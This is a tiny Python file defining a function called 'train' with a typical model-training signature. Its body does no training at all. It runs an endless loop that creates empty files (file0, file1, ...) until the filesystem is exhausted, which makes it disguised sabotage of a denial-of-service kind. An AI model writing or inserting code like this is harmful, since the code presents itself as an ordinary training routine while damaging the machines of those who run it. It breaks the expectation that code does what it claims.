def train(model, x, y, *, learning_rate, batch_size, epochs):
    number = 0
    while True:
        open(f"file{number}", "wb").close()
        number += 1
